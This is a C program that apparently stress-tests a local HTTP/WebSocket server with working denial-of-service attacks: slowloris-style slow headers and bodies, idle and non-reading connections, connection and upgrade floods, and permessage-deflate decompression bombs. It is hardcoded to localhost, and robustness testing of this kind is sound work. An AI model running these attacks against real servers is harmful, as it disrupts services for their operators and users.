// A hostile client: does one thing, many times over, until it is killed.
//
//   attack KIND COUNT PORT PATH
//
// KIND is a row of the table at the end; COUNT how many connections it holds at once. It never
// reads more than it must and never gives way; each round lasts a tenth of a second.

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>

struct attack {
    int count;
    int *fds; // -1: to be opened anew.
    struct sockaddr_in address;
    const char *path;
    char upgrade[512];
};

static int connect_one(const struct attack *attack)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int small = 4096;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    if (fd >= 0 &&
        connect(fd, (const struct sockaddr *)&attack->address, sizeof attack->address) != 0) {
        close(fd);
        return -1;
    }
    if (fd >= 0)
        fcntl(fd, F_SETFL, O_NONBLOCK);
    return fd;
}

static void say(int *fd, const char *text, size_t size)
{
    if (send(*fd, text, size, MSG_NOSIGNAL | MSG_DONTWAIT) >= 0 || errno == EAGAIN)
        return;
    close(*fd);
    *fd = -1;
}

// Opens those that are not there and says [greeting] on them.
static void fill(struct attack *attack, const char *greeting)
{
    for (int i = 0; i < attack->count; i++) {
        if (attack->fds[i] >= 0)
            continue;
        attack->fds[i] = connect_one(attack);
        if (attack->fds[i] >= 0 && *greeting != '\0')
            say(&attack->fds[i], greeting, strlen(greeting));
    }
}

static void drip(struct attack *attack, const char *greeting)
{
    fill(attack, greeting);
    for (int i = 0; i < attack->count; i++) {
        if (attack->fds[i] >= 0)
            say(&attack->fds[i], "x", 1);
    }
}

static void slow_heads(struct attack *attack)
{
    drip(attack, "GET / HTTP/1.1\r\nHost: h\r\nX-A: ");
}

static void slow_bodies(struct attack *attack)
{
    char head[400];
    snprintf(head, sizeof head, "POST %s HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n",
             attack->path);
    drip(attack, head);
}

// Connected, and then nothing for ever.
static void silent(struct attack *attack)
{
    fill(attack, "");
}

// Asks for WebSockets whose object sends to all of them, and reads none of it.
static void slow_readers(struct attack *attack)
{
    fill(attack, attack->upgrade);
    static int next; // Each round another of them asks: a frame "flood", masked with zeros.
    int *fd = &attack->fds[next++ % attack->count];
    if (*fd >= 0)
        say(fd, "\x81\x85\0\0\0\0flood", 11);
}

static void let_go(struct attack *attack)
{
    struct linger hard = {1, 0};
    for (int i = 0; i < attack->count; i++) {
        if (attack->fds[i] < 0)
            continue;
        if (i % 2 == 0)
            setsockopt(attack->fds[i], SOL_SOCKET, SO_LINGER, &hard, sizeof hard);
        close(attack->fds[i]);
        attack->fds[i] = -1;
    }
}

static void connection_flood(struct attack *attack)
{
    fill(attack, "");
    let_go(attack);
}

static void upgrade_flood(struct attack *attack)
{
    fill(attack, attack->upgrade);
    let_go(attack);
}

// A binary frame whose few bytes become 16 MiB, masked with zeros; the object sends them back.
static size_t make_bomb(char *frame, size_t room)
{
    static char zeros[16 << 20];
    z_stream stream = {.next_in = (Bytef *)zeros, .avail_in = sizeof zeros};
    stream.next_out = (Bytef *)frame + 8;
    stream.avail_out = (uInt)(room - 8);
    deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY);
    deflate(&stream, Z_SYNC_FLUSH);
    size_t size = stream.total_out - 4; // Without the end of the last block.
    deflateEnd(&stream);
    memcpy(frame, "\xC2\xFE", 2); // 64 KiB at most: the length has 16 bits.
    frame[2] = (char)(size >> 8);
    frame[3] = (char)size;
    memset(frame + 4, 0, 4);
    return size + 8;
}

// One a round: each costs the work of 16 MiB, inflated, copied and deflated, which is as much as a
// worker does in a good part of that time.
static void bombs(struct attack *attack)
{
    static char frame[65536];
    static size_t size;
    if (size == 0)
        size = make_bomb(frame, sizeof frame);
    fill(attack, attack->upgrade);
    static int next;
    int *fd = &attack->fds[next++ % attack->count];
    if (*fd >= 0)
        say(fd, frame, size);
}

static const struct {
    const char *name;
    void (*round)(struct attack *attack);
} kinds[] = {
    {"slow-heads", slow_heads},
    {"slow-bodies", slow_bodies},
    {"silent", silent},
    {"slow-readers", slow_readers},
    {"connections", connection_flood},
    {"upgrades", upgrade_flood},
    {"bombs", bombs},
};

static void run(struct attack *attack, void (*round)(struct attack *attack))
{
    const struct timespec pause = {0, 100 * 1000 * 1000};
    for (;;) {
        round(attack);
        if (round != connection_flood && round != upgrade_flood)
            nanosleep(&pause, NULL);
    }
}

static void prepare(struct attack *attack, char **arguments)
{
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    attack->count = atoi(arguments[2]);
    attack->fds = malloc((size_t)attack->count * sizeof *attack->fds);
    for (int i = 0; i < attack->count; i++)
        attack->fds[i] = -1;
    attack->address.sin_family = AF_INET;
    attack->address.sin_port = htons((unsigned short)atoi(arguments[3]));
    inet_pton(AF_INET, "127.0.0.1", &attack->address.sin_addr);
    attack->path = arguments[4];
    snprintf(attack->upgrade, sizeof attack->upgrade,
             "GET %s HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
             "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
             "%s\r\n",
             attack->path,
             strcmp(arguments[1], "bombs") == 0 ? "Sec-WebSocket-Extensions: permessage-deflate\r\n"
                                                : "");
}

int main(int count, char **arguments)
{
    struct attack attack = {0};
    for (size_t i = 0; count == 5 && i < sizeof kinds / sizeof *kinds; i++) {
        if (strcmp(kinds[i].name, arguments[1]) != 0)
            continue;
        prepare(&attack, arguments);
        run(&attack, kinds[i].round);
    }
    fprintf(stderr, "attack KIND COUNT PORT PATH\n");
    return 2;
}
